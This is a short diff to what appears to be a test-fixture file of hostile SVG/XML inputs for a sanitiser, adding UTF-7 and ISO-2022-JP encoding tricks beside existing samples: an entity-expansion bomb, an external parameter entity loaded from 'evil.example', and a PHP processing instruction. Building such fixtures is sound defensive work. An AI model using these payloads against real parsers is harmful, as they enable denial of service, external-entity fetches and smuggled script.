@@ -127,6 +127,8 @@ export const hostileSamples: Record<string, string> = {
   'an entity bomb': `<!DOCTYPE svg [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${inside('<desc>&c;</desc>')}`,
   'a parameter entity': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>${inside('')}`,
   'an unknown entity': inside('<title>&nbsp;</title>'),
+  'another encoding than its own': `<?xml version="1.0" encoding="UTF-7"?>${inside('<title>+ADw-script+AD4-</title>')}`,
+  'the encoding of another alphabet': `<?xml version="1.0" encoding="ISO-2022-JP"?>${inside('')}`,
   'a processing instruction': `<?php echo 1 ?>${inside('')}`,
 
   // What takes very long
